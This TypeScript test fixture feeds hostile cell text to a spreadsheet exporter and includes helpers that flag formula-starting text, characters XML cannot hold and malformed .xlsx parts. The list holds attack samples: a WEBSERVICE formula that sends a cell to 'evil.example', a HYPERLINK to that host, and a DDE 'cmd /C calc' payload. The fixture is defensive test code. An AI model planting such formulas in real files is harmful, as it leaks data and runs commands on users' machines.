/**
 * Text a careless or hostile user can put wherever the product takes text: formulas a
 * spreadsheet would run, characters XML 1.0 cannot hold, and more than a cell can hold. Every
 * writer of cells is tried with the same list (test/unit/hostileText.test.ts).
 */
import { unzipSync, strFromU8 } from 'fflate';
import { SaxesParser } from 'saxes';

/** The formula of issue 32: WEBSERVICE sends a neighbouring cell to an outside server. */
export const WEBSERVICE = '=WEBSERVICE("https://evil.example/"&B7)';

const C0 = Array.from({ length: 32 }, (_, i) => `x${String.fromCharCode(i)}y`);

export const HOSTILE_TEXT: readonly string[] = [
  WEBSERVICE,
  '+HYPERLINK("https://evil.example/","x")',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  'Ann\uFFFEBrown',
  'Ann\uFFFFBrown',
  ...C0,
  '\u0000=1+1',
  'lone high \uD800 surrogate',
  'lone low \uDC00 surrogate',
  'pair kept \uD83D\uDE00',
  'x'.repeat(40_000),
  `=${'x'.repeat(40_000)}`,
];

/** The same text made short enough for a sheet name (31 characters). */
export const HOSTILE_SHEET_NAMES: readonly string[] = ['=1+1 sheet', 'Ann\uFFFEBrown', 'x\u0001y'];

const FORMULA_START = /^[=+\-@\t\r]/;
// A character XML 1.0 cannot hold (a pair of surrogates is one code point under the u flag).
const NOT_XML = /[\u0000-\u0008\u000B\u000C\u000E-\u001F\uD800-\uDFFF\uFFFE\uFFFF]/u;

/** Why a cell's text could be run as a formula or spoil a file, or undefined when it is safe. */
export function unsafeText(v: unknown): string | undefined {
  if (typeof v !== 'string') return undefined;
  if (FORMULA_START.test(v)) return `starts with ${JSON.stringify(v[0])}`;
  if (NOT_XML.test(v)) return 'holds a character XML cannot hold';
  if (v.length > 32_767) return `${v.length} characters, more than a cell holds`;
  return undefined;
}

/** Every XML part of an .xlsx parsed by a strict XML 1.0 parser: the names of the parts that are not well-formed, with why. */
export function malformedParts(bytes: Uint8Array): string[] {
  const bad: string[] = [];
  for (const [name, data] of Object.entries(unzipSync(bytes))) {
    if (!/\.(xml|rels)$/.test(name)) continue;
    const parser = new SaxesParser({ xmlns: true });
    let error: string | undefined;
    parser.on('error', (e) => {
      error ??= e.message;
    });
    try {
      // Bytes that are not UTF-8 (a surrogate written on its own) are as fatal to a reader as a bad character.
      parser.write(new TextDecoder('utf-8', { fatal: true }).decode(data)).close();
    } catch (e) {
      error ??= (e as Error).message;
    }
    if (error !== undefined) bad.push(`${name}: ${error}`);
  }
  return bad;
}

/** Every sheet part's formula elements (<f>), by part. */
export function formulaElements(bytes: Uint8Array): string[] {
  return Object.entries(unzipSync(bytes))
    .filter(([name]) => name.startsWith('xl/worksheets/'))
    .flatMap(([name, data]) => (strFromU8(data).match(/<f[ >][^<]*/g) ?? []).map((f) => `${name}: ${f}`));
}
